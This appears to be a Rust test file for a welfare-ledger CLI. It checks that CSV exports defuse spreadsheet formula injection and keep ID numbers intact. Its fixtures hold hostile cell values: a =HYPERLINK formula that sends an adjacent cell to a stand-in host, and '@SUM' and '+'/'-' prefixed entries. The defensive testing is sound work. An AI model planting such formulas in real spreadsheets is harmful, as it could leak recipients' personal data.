//! The CSV files people open in Excel, through the real `bangfu` binary:
//! a roster whose names, village and telephone start formulas (issue 19,
//! point 4) is imported, and the ledger and the summary report show them as
//! text (a leading `'`), ID and telephone numbers as text with every digit,
//! and amounts and counts as plain numbers.

use std::path::{Path, PathBuf};

use crate::support::{csv_rows, p, run, tempdir};

/// What a spreadsheet would run: the head's name sends the next cells to a
/// stranger when clicked.
const LINK_NAME: &str = r#"=HYPERLINK("http://x/?"&E2,"点击")"#;
const ID_HEAD: &str = "341024198104120119";
const ID_SPOUSE: &str = "341024198309300228";

/// No cell may start a formula unless escaped; a number we wrote is fine.
#[track_caller]
fn assert_no_live_formula(rows: &[Vec<String>], what: &str) {
    for row in rows {
        for cell in row {
            let plain_number = cell.strip_prefix('-').is_some_and(|n| {
                !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit() || b == b'.')
            });
            assert!(
                plain_number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: a cell would run as a formula: {cell:?} in {row:?}"
            );
        }
    }
}

fn column(header: &[String], name: &str) -> usize {
    header
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name} in {header:?}"))
}

/// A store holding one roster household whose head's name is [`LINK_NAME`],
/// whose village is `@SUM(1+1)` and whose telephone is `+8613855001234`,
/// and a second household whose telephone is all digits with a leading 0.
fn store_with_hostile_roster(dir: &Path) -> PathBuf {
    let db = dir.join("store.sqlite");
    let roster = dir.join("roster.csv");
    let quoted_name = format!("\"{}\"", LINK_NAME.replace('"', "\"\""));
    let rows = [
        "户编号,村/社区,组,住址,联系电话,户籍类型,户主姓名,姓名,身份证号,出生日期,与户主关系,是否共同生活,劳动能力,自理能力,工资性收入".to_owned(),
        format!("X-001,@SUM(1+1),-2组,,+8613855001234,农村,{quoted_name},{quoted_name},{ID_HEAD},,户主,是,无,完全自理,1200"),
        format!("X-001,@SUM(1+1),-2组,,+8613855001234,农村,{quoted_name},王秀兰,{ID_SPOUSE},,配偶,是,无,完全自理,"),
        "X-002,田心寨村,一组,,05581234567,农村,潘国强,潘国强,341024196606060938,,户主,是,完全,完全自理,96000".to_owned(),
    ];
    std::fs::write(&roster, rows.join("\n") + "\n").expect("write roster");
    run(&db, &["import", "roster", p(&roster)]).ok();
    run(&db, &["eval", "--as-of", "2026-12-01", "--save"]).ok();
    db
}

#[test]
fn ledger_cells_that_start_formulas_are_text_and_ids_keep_every_digit() {
    let dir = tempdir();
    let db = store_with_hostile_roster(dir.path());

    let out = dir.path().join("ledger.csv");
    run(
        &db,
        &["export", "ledger", "--csv", "--full-id", "--out", p(&out)],
    )
    .ok();
    let rows = csv_rows(&std::fs::read(&out).expect("ledger written"));
    assert_no_live_formula(&rows, "ledger --full-id");
    let header = &rows[0];
    let row = rows
        .iter()
        .find(|r| r[0] == "X-001")
        .expect("household X-001 in the ledger");
    assert_eq!(row[column(header, "户主姓名")], format!("'{LINK_NAME}"));
    assert_eq!(row[column(header, "村/社区")], "'@SUM(1+1)");
    assert_eq!(row[column(header, "组")], "'-2组");
    assert_eq!(row[column(header, "联系电话")], "'+8613855001234");
    // The full ID number as text: a spreadsheet keeps all 18 digits.
    assert_eq!(row[column(header, "户主身份证号")], format!("'{ID_HEAD}"));
    // Amounts and counts bangfu wrote stay numbers.
    let amount = &row[column(header, "月保障金额（元）")];
    assert!(
        amount.parse::<f64>().is_ok() && !amount.starts_with('\''),
        "{amount:?}"
    );
    assert_eq!(row[column(header, "家庭人口")], "2");
    let other = rows.iter().find(|r| r[0] == "X-002").expect("X-002");
    assert_eq!(other[column(header, "联系电话")], "'05581234567");
    assert_eq!(other[column(header, "户主姓名")], "潘国强");

    // Masked ID numbers are text already and are written as they are.
    let masked = run(&db, &["export", "ledger", "--csv"]).ok();
    let rows = csv_rows(&masked.raw_stdout);
    assert_no_live_formula(&rows, "ledger");
    let row = rows.iter().find(|r| r[0] == "X-001").expect("X-001");
    assert_eq!(row[column(&rows[0], "户主身份证号")], "341024********0119");
    assert_eq!(row[column(&rows[0], "户主姓名")], format!("'{LINK_NAME}"));
}

#[test]
fn report_csv_village_names_that_start_formulas_are_text() {
    let dir = tempdir();
    let db = store_with_hostile_roster(dir.path());
    let out = dir.path().join("report.csv");
    run(&db, &["report", "--csv", p(&out)]).ok();
    let rows = csv_rows(&std::fs::read(&out).expect("report written"));
    assert_no_live_formula(&rows, "report");
    let village = rows
        .iter()
        .find(|r| r[0] == "村/社区" && r[1].contains("SUM"))
        .expect("the village row");
    assert_eq!(village[1], "'@SUM(1+1)");
    assert_eq!(village[3], "1", "households stay a number: {village:?}");
    assert_eq!(village[4], "2", "persons stay a number: {village:?}");
    let total = rows.iter().find(|r| r[0] == "合计").expect("total row");
    assert_eq!(total[3], "2");
}

/// The ledger and the summary report carry each household's 残疾人两项补贴
/// and 刚性支出困难 flag from its saved decision: the ledger's column adds
/// up to what `eval` says, and the report's line counts the same households.
#[test]
fn ledger_and_report_show_disability_subsidies_and_rigid_expense_hardship() {
    let dir = tempdir();
    let db = crate::support::demo_store(dir.path(), "demo.sqlite", &[]);
    let eval = run(&db, &["eval", "--format", "json"]).ok();
    let report: serde_json::Value = serde_json::from_str(&eval.stdout).expect("eval JSON");
    let results = report["results"].as_array().expect("results");
    let money = |v: &serde_json::Value| -> rust_decimal::Decimal {
        v.as_str().unwrap_or("0").parse().expect("amount")
    };
    let expected_sum: rust_decimal::Decimal =
        results.iter().map(|r| money(&r["subsidies_monthly"])).sum();
    let with_subsidy = results
        .iter()
        .filter(|r| !money(&r["subsidies_monthly"]).is_zero())
        .count();
    let rigid = results
        .iter()
        .filter(|r| {
            r["codes"]
                .as_array()
                .is_some_and(|c| c.iter().any(|c| c == "RIGID_EXPENSE_HARDSHIP"))
        })
        .count();
    assert!(
        with_subsidy > 0,
        "the demo has households drawing the subsidies"
    );

    let ledger = dir.path().join("ledger.csv");
    run(&db, &["export", "ledger", "--csv", "--out", p(&ledger)]).ok();
    let rows = csv_rows(&std::fs::read(&ledger).expect("ledger"));
    let sub = column(&rows[0], "残疾人两项补贴（元/月）");
    let flag = column(&rows[0], "刚性支出困难");
    let ledger_sum: rust_decimal::Decimal = rows[1..]
        .iter()
        .map(|r| r[sub].parse::<rust_decimal::Decimal>().unwrap_or_default())
        .sum();
    assert_eq!(ledger_sum, expected_sum, "ledger subsidies");
    assert_eq!(
        rows[1..].iter().filter(|r| !r[flag].is_empty()).count(),
        rigid,
        "ledger 刚性支出困难"
    );

    let csv = dir.path().join("report.csv");
    run(&db, &["report", "--csv", p(&csv)]).ok();
    let rows = csv_rows(&std::fs::read(&csv).expect("report"));
    let line = rows
        .iter()
        .find(|r| r.get(1).map(String::as_str) == Some("残疾人两项补贴"))
        .expect("a 残疾人两项补贴 line");
    assert_eq!(line[3], with_subsidy.to_string());
    assert_eq!(
        line[5].parse::<rust_decimal::Decimal>().ok(),
        Some(expected_sum)
    );
    let line = rows
        .iter()
        .find(|r| r.get(1).map(String::as_str) == Some("刚性支出困难（监测）"))
        .expect("a 刚性支出困难 line");
    assert_eq!(line[3], rigid.to_string());
}
